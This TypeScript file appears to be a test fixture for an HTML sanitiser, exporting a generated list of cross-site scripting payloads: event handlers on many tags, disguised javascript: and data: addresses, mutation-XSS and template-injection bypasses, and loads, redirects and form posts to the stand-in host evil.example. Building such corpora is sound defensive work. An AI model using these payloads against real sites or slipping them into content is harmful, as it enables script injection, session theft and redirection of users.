const run = 'window.ran=1';
const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'onclick',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter'
];
const tags = [
  'img src=x',
  'svg',
  'body',
  'iframe src=x',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'marquee',
  'object data=x',
  'embed src=x',
  'a href=x',
  'p',
  'math',
  'custom-element',
  'table background=x'
];

/** Addresses that run, and the ways in which they are disguised. */
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\nscript:${run}`,
  `java\tscript:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;avascript:${run}`,
  `javascript://%0a${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`,
  `//evil.example/x`,
  `https://user:secret@evil.example/x`,
  `blob:https://evil.example/x`,
  `?guide=stage-1"onclick="${run}`,
  `?guide=../../x`
];

/** Whole pieces that have got past one sanitiser or another: mutation, templates, styles, namespaces. */
const pieces = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script>`,
  `"><script>${run}</script>`,
  `'-alert(1)-'`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<p style="background:url(//evil.example/x);position:fixed;inset:0">x</p>`,
  `<p style="width:expression(${run})">x</p>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/x">`,
  `<base href=//evil.example/>`,
  `<form action=//evil.example/x><input name=a value=b><button>x</button></form>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"></use></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<template><img src=x onerror=${run}></template>`,
  `<img src=x:x onerror&#61;${run}>`,
  `<img src="x" onerror="eval(atob('d2luZG93LnJhbj0x'))">`,
  `<img srcset="//evil.example/x 1x">`,
  `<video poster=//evil.example/x></video>`,
  `<a href="https://example.org/" target=_self onclick=${run}>x</a>`,
  `<a name=nodeName>x</a><a id=childNodes>x</a><img name=attributes>`,
  `<p id="__proto__">x</p><p name="innerHTML">x</p>`,
  `{{constructor.constructor('${run}')()}}`,
  '${window.ran=1}',
  `<%= ${run} %>`,
  `[[${run}]]`,
  `<x-if onx=1 is="y">x</x-if>`,
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<isindex type=image src=1 onerror=${run}>`,
  `<xmp><img src=x onerror=${run}></xmp>`,
  `<plaintext-x><img src=x onerror=${run}>`,
  `<select><option><img src=x onerror=${run}></select>`,
  `<textarea><img src=x onerror=${run}></textarea>`,
  `<title><img src=x onerror=${run}></title>`,
  `<b title="${'&quot;'.repeat(3)}><img src=x onerror=${run}>">x</b>`,
  `<div data-hub-root="" class="tokens" role="alert" aria-live="assertive">x</div>`
];

/**
 * Markup that tries to run, load, style or leave: every handler on every element, every disguised address, and pieces
 * known to have got past one sanitiser or another. Where it ran, `window.ran` is set; where it loaded, from
 * `evil.example`.
 */
export const hostileMarkup: readonly string[] = [
  ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}=${run}>x`)),
  ...addresses.flatMap((address) => [
    `<a href="${address}">x</a>`,
    `<img src="${address}">`,
    `<form action="${address}">x</form>`
  ]),
  ...pieces
];
